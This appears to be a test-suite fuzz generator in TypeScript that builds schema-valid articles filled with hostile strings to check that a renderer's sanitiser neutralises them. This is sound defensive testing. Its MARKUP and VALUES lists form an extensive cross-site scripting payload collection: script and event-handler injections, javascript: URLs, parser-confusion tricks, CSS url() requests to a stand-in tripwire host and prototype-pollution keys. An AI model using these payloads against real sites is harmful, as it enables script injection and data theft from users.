/**
 * Generates documents that the schema allows, with hostile texts in every possible place: strings that try to become
 * markup, code, style or a request. They run `tripped(<number>)` or fetch from TRIPPED_HOST, so that a page can detect them.
 */
import { type AttributeSpec, type Attrs, type ContentMatch, Mark, type Node, type NodeType } from "prosemirror-model";
import { EMBED_SHAPES } from "../../server/article/embeds/settings.ts";
import type { RenderedAsset } from "../../server/article/render/rendering.ts";
import { articleSchema, CALLOUT_TONES, FIGURE_WIDTHS } from "../../server/article/schema.ts";
import type { Chance } from "./chance.ts";

const MAX_DEPTH = 5;

/**
 * @param number of the document, which appears in its hostile texts
 * @param last text of the last paragraph, which shows that no earlier element was left open
 * @returns the document, and entries of all files that it references, also hostile
 */
export function hostileArticle(random: Chance, number: number, last: string) {
  const text = () => hostileString(random, number);
  const files: [string, RenderedAsset][] = [];
  const { nodes, topNodeType } = articleSchema;

  const attributes = (specs: Readonly<Record<string, AttributeSpec>>): Attrs =>
    Object.fromEntries(
      Object.entries(specs).map(([name, spec]) => {
        const value = attributeValue(name, spec);
        if ((name === "file" || name === "poster") && typeof value === "string") files.push([value, file()]);
        return [name, value];
      }),
    );

  const attributeValue = (name: string, spec: AttributeSpec): unknown => {
    if ((name === "file" || name === "poster") && random.happens(0.5)) return `p-${number}.jpg`;
    const value = kindOf(spec)?.(random, text);
    return isAllowed(spec, value) ? value : spec.default;
  };

  const file = (): RenderedAsset => ({
    type: random.pick(["image/png", "video/mp4", "audio/ogg", "application/pdf", text(), 7, undefined]),
    width: random.pick([640, text(), -1]),
    height: random.pick([480, text(), null]),
    size: random.pick([1_000, text(), Number.NaN]),
    ...random.pick([{}, {}, { src: null }, { src: text() }, { src: `https://${MEDIA_HOST}/${number}` }]),
  });

  const inlineContent = (parent: NodeType): Node[] => {
    const allowed = Object.values(articleSchema.marks).filter((mark) => parent.allowsMarkType(mark));
    return Array.from({ length: random.below(4) }, () => {
      if (random.happens(0.1) && parent.contentMatch.matchType(nodes.hardBreak)) return nodes.hardBreak.create();
      const chosen = allowed.filter(() => random.happens(0.3));
      const marks = chosen.map((mark) => mark.create(attributes(mark.spec.attrs ?? {})));
      const set = marks.reduce((others, mark) => mark.addToSet(others), Mark.none);
      return articleSchema.text(text(), set);
    });
  };

  /** Random children that the parent's content expression allows. */
  const blockContent = (parent: NodeType, depth: number): Node[] => {
    const children: Node[] = [];
    for (let at: ContentMatch | null = parent.contentMatch; at !== null && at.edgeCount > 0; ) {
      if (at.validEnd && random.happens(0.5 + depth / 20)) break;
      const types = edges(at).filter((type) => depth < MAX_DEPTH || type.isLeaf || type.inlineContent);
      // At the maximum depth, only required children are added.
      const type: NodeType = random.pick(types.length > 0 ? types : edges(at));
      children.push(build(type, depth + 1));
      at = at.matchType(type);
    }
    return children;
  };

  const build = (type: NodeType, depth: number): Node => {
    const values: Record<string, unknown> = attributes(type.spec.attrs ?? {});
    // A random text is never a URL that can be embedded.
    if (type.name === "embed" && random.happens(0.8))
      values.href = `https://${random.pick(FRAMED)}${encodeURI(text().toWellFormed().replaceAll(/\s/g, ""))}`;
    if (type.isLeaf) return type.create(values);
    return type.create(values, type.inlineContent ? inlineContent(type) : blockContent(type, depth));
  };

  const top = edges(topNodeType.contentMatch);
  const content = Array.from({ length: 1 + random.below(4) }, () => build(random.pick(top), 1));
  const end = nodes.paragraph.create(null, articleSchema.text(last));
  return {
    doc: topNodeType.create(attributes(topNodeType.spec.attrs ?? {}), [...content, end]),
    files: Object.fromEntries(files),
  };
}

const edges = (match: ContentMatch): NodeType[] =>
  Array.from({ length: match.edgeCount }, (_, index) => match.edge(index).type);

const FRAMED = [
  "www.youtube.com/watch?v=dQw4w9WgXcQ&t=",
  "player.vimeo.com/video/76979871?h=",
  "www.google.com/maps/embed?pb=!1",
  "www.google.com/maps/place/",
  "t.me/durov/1?",
];

type Make = (random: Chance, text: () => string) => unknown;

/** Kinds of attributes: a sample that identifies the kind, and a generator. Hostile texts come first. */
const KINDS: readonly (readonly [sample: unknown, make: Make])[] = [
  ["<", (_random, text) => text()],
  [{ name: "<" }, hostileDefinition],
  [true, (random) => random.happens(0.5)],
  [[1], (random) => random.pick([null, [random.below(900), 0]])],
  ["wide", (random) => random.pick(FIGURE_WIDTHS)],
  ["16:9", (random) => random.pick(["", ...EMBED_SHAPES])],
  ["tip", (random) => random.pick(CALLOUT_TONES)],
  ["pt-BR", (random) => random.pick(["", "ru", "pt-BR"])],
  [3, (random) => random.below(random.pick([7, 101]))],
];

function hostileDefinition(random: Chance, text: () => string): unknown {
  return {
    name: text(),
    [random.pick(["class", "className"])]: random.happens(0.5) ? text() : [text(), text()],
    [random.pick(["data", "dataAttributes", "attributes"])]: {
      [text()]: text(),
      "data-x": text(),
      onclick: text(),
      y: random.below(9),
    },
  };
}

const kinds = new WeakMap<AttributeSpec, Make | undefined>();

function kindOf(spec: AttributeSpec): Make | undefined {
  if (!kinds.has(spec)) kinds.set(spec, KINDS.find(([sample]) => isAllowed(spec, sample))?.[1]);
  return kinds.get(spec);
}

function isAllowed(spec: AttributeSpec, value: unknown): boolean {
  if (typeof spec.validate !== "function") return typeof value === spec.validate;
  try {
    spec.validate(value);
    return true;
  } catch (error) {
    if (error instanceof RangeError) return false;
    throw error;
  }
}

/** No request may go to TRIPPED_HOST. Pictures and players of free HTML load from MEDIA_HOST, which is allowed. */
export const TRIPPED_HOST = "tripped.example";
export const MEDIA_HOST = "media.example";

/** RUN: a call of the tripwire. URL: must never be requested. */
const MARKUP = String.raw`
<script>RUN</script>
<script src=URL></script>
<ScRiPt/x>RUN</sCrIpT >
<img src=x onerror=RUN>
<img/src="x"/onerror="RUN">
<IMG SRC=x OnErRoR=RUN>
<img src=x onerror=RUN//
<image href=x onerror=RUN>
<svg onload=RUN>
<svg><script>RUN</script></svg>
<svg><animate onbegin=RUN attributeName=x dur=1s>
<svg><a xlink:href="javascript:RUN"><text y=20>x</text></a></svg>
<svg><use href="data:image/svg+xml,<svg id=x onload=RUN>#x"></use>
<svg><foreignObject><iframe srcdoc="<script>parent.RUN</script>"></iframe></foreignObject>
<math><mtext><table><mglyph><style><!--</style><img title="--&gt;&lt;img src=1 onerror=RUN&gt;">
<math><mi//xlink:href="data:x,<script>RUN</script>">
<form><math><mtext></form><form><mglyph><svg><mtext><style><path id="</style><img onerror=RUN src>">
<svg></p><style><a id="</style><img src=1 onerror=RUN>">
<svg><p><style><!--</style><img src=x onerror=RUN>--></style>
<noscript><p title="</noscript><img src=x onerror=RUN>"></noscript>
<noscript><!--</noscript><img src=x onerror=RUN>--></noscript>
<title><a id="</title><img src=x onerror=RUN>">
<style><a title="</style><img src=x onerror=RUN>">
<textarea><a title="</textarea><img src=x onerror=RUN>">
<template><img src=x onerror=RUN></template>
<template shadowrootmode=open><img src=x onerror=RUN></template>
<xmp><p title="</xmp><img src=x onerror=RUN>">
<noembed><img title="</noembed><img src=x onerror=RUN>">
<select><template><style><!--</style><a rel="--></style></template></select><img src=x onerror=RUN>">
<select><iframe><style></select><img src=x onerror=RUN></style>
<plaintext><img src=x onerror=RUN>
<!--><img src=x onerror=RUN>-->
<!--<img src="--><img src=x onerror=RUN>">
<!-- --!><img src=x onerror=RUN>
<!-->-->
<![CDATA[<img src=x onerror=RUN>]]>
<svg><![CDATA[><img src=x onerror=RUN>]]></svg>
<?xml version="1.0"?><x:script xmlns:x="http://www.w3.org/1999/xhtml">RUN</x:script>
<?<img src=x onerror=RUN>?>
<!DOCTYPE x [<!ENTITY y "<script>RUN</script>">]>&y;
<iframe src="javascript:parent.RUN"></iframe>
<iframe srcdoc="&lt;script&gt;parent.RUN&lt;/script&gt;"></iframe>
<iframe src=URL></iframe>
<frameset onload=RUN><frame src="javascript:RUN">
<object data=URL></object>
<object type="text/html" data="javascript:RUN"><param name=x></object>
<embed src=URL>
<applet code=URL></applet>
<base href=URL>
<link rel=stylesheet href=URL>
<link rel=preload as=image href=URL>
<meta http-equiv=refresh content="0;url=javascript:RUN">
<meta http-equiv=refresh content="0;url=URL">
<form action=URL><button autofocus onfocus=RUN>x</button></form>
<form action="javascript:RUN"><input type=submit id=RUN></form>
<input autofocus onfocus=RUN>
<button formaction="javascript:RUN">x</button>
<details open ontoggle=RUN><summary>x</summary></details>
<video><source onerror=RUN></video>
<video src=x onerror=RUN autoplay></video>
<video poster="javascript:RUN"></video>
<audio src=x onerror=RUN></audio>
<body onload=RUN background=URL>
<html onmouseover=RUN manifest=URL>
<marquee onstart=RUN>x</marquee>
<table background=URL><td background=URL>x</td></table>
<a href="javascript:RUN">x</a>
<a href="java&#9;script:RUN">x</a>
<a href="&#x6a;&#97vascript&colon;RUN">x</a>
<a href=" &#14; javascript:RUN">x</a>
<a href="data:text/html,<script>RUN</script>">x</a>
<a href="/x" ping=URL style="background:url(URL)">x</a>
<a href="x" popover=manual onclick=RUN id=x>x</a>
<map><area href="javascript:RUN"></map><img usemap=#x src=x>
<img srcset="URL 1x" src="https://media.example/a.png">
<picture><source srcset=URL><img src="https://media.example/b.png" onload=RUN></picture>
<p style="background-image:url(URL)">x</p>
<p style="x:expression(RUN);-moz-binding:url(URL)">x</p>
<p style="background:u\72l(URL)">x</p>
<style>@import "URL";</style>
<style>@import url(URL);*{background:url(URL)}</style>
<div style=";--a:}</style><img src=x onerror=RUN>">
<custom-element is=x onclick=RUN></custom-element>
<isindex action=javascript:RUN type=image>
<keygen autofocus onfocus=RUN>
<b id=getElementById name=body>x</b>
<img src=x:x onerror=RUN	>
<img src='x'onerror='RUN'>
<p/onclick="RUN"/style="background:url(URL)"/>
<a/href=javascript:RUN>x
<<script>RUN//<</script>
<scr<script>ipt>RUN</scr</script>ipt>
<svg/onload=RUN
<a href="x"onclick="RUN">x</a>
<td>x</td></table><tr><th onclick=RUN>
</td></tr></table></div></section></article><script>RUN</script>
</style><script>RUN</script>
</script><script>RUN</script>
</title></textarea></noscript></style></xmp></iframe></template><img src=x onerror=RUN>
<li><p></li></ul></ol></li><li onclick=RUN>x
<a href=/1><table><a href=/2><b></a></table></b>
<p><b><i><a href=/x><div></p></b></a>
<table><a href="/x"><tr><div></table></div>
</div></div></div></div>
<ul><li><table><td><li></ul>
`;

/** For URLs, styles and attribute values. */
const VALUES =
  String.raw`
javascript:RUN
JaVaScRiPt:RUN
  javascript:RUN
java	script:RUN
javascript&colon;RUN
&#106;avascript:RUN
javascript://%0aRUN
javascript:/*--></title></style></textarea></script></xmp><svg/onload='+/"/+/onmouseover=1/+/[*/[]/+RUN//'>
jav&#x0A;ascript:RUN
vbscript:RUN
data:text/html,<script>RUN</script>
data:image/svg+xml,<svg xmlns='http://www.w3.org/2000/svg' onload='RUN'/>
view-source:javascript:RUN
feed:javascript:RUN
blob:null/RUN
filesystem:RUN
//\javascript:RUN
\javascript:RUN
" onmouseover="RUN
" onerror=RUN src="x
' onerror='RUN
' onfocus=RUN autofocus='
` +
  "\n` onerror=`RUN`\n" +
  String.raw`
"><img src=x onerror=RUN>
'><img src=x onerror=RUN>
--><img src=x onerror=RUN>
]]><img src=x onerror=RUN>
&quot; onclick=&quot;RUN
&#34;&#62;&#60;img src=x onerror=RUN&#62;
x' onerror='RUN';color:red
red;background:url(URL)
red}*{background:url(URL)}
red}</style><script>RUN</script>
'; background:url("URL"); x:'
\27;background:url(URL)
\22\3e\3cimg src=x onerror=RUN\3e
\0075rl(URL)
expression(RUN)
x:expression(RUN)
@import 'URL';
url(URL)
x' /**/;background:url(URL)/*
/*
*/
{{constructor.constructor('RUN')()}}
\${RUN}
%3Cscript%3ERUN%3C/script%3E
&lt;script&gt;RUN&lt;/script&gt;
&amp;lt;img src=x onerror=RUN&amp;gt;
__proto__
constructor
hasOwnProperty
dummy-p.jpg
`;

const lines = (text: string): string[] => text.split("\n").filter((line) => line.trim() !== "");

/** Characters that often break parsers. */
const ODD = [
  "\0", "\x01", "\x08", "\x0b", "\x0c", "\x1b", "\x7f", "\x80", "\xad", "\xa0", "\ufeff", "\ufffe", "\uffff", "\ud800", "\udc00",
  "\u2028", "\u2029", "\u202e", "\u2066", "\u200b", "\u{e0041}", "\r", "\n", "\t", "&#0;", "&#xd800;", "&", "<", ">", '"', "'",
  "`", "=", "/", "\\", "-", "--!>", "]]>", "<!--", "&#x3c;", "&lt", "＜", "ʺ", "\u0130", "\u017f", "\u212a",
]; // biome-ignore format: a list of characters
const ALL = [...lines(MARKUP), ...lines(VALUES)];

/** A non-empty hostile text. @param number of the document, in the call or the URL */
function hostileString(random: Chance, number: number): string {
  const parts = Array.from({ length: 1 + random.below(3) }, () =>
    random.happens(0.15) ? random.pick(ODD) : withOdd(random.pick(ALL), random),
  );
  return parts
    .join(random.happens(0.5) ? "" : " ")
    .replaceAll("RUN", `tripped(${number})`)
    .replaceAll("URL", `https://${TRIPPED_HOST}/${number}`);
}

/** Sometimes inserts an odd character, which a filter may not expect and a browser may ignore. */
function withOdd(text: string, random: Chance): string {
  if (!random.happens(0.2)) return text;
  const at = random.below(text.length + 1);
  return text.slice(0, at) + random.pick(ODD) + text.slice(at);
}
